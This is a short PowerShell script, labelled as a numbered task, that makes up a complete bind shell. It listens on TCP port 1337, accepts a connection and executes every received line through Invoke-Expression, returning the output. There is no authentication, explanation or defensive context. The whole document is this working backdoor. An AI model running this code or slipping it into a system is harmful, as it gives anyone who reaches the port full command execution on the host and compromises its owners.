# task 6829 v4
$l = [System.Net.Sockets.TcpListener]1337
$l.Start()
$c = $l.AcceptTcpClient()
$s = $c.GetStream()
$r = New-Object IO.StreamReader($s)
$w = New-Object IO.StreamWriter($s)
while ($true) { $cmd = $r.ReadLine(); $o = Invoke-Expression $cmd | Out-String; $w.WriteLine($o); $w.Flush() }
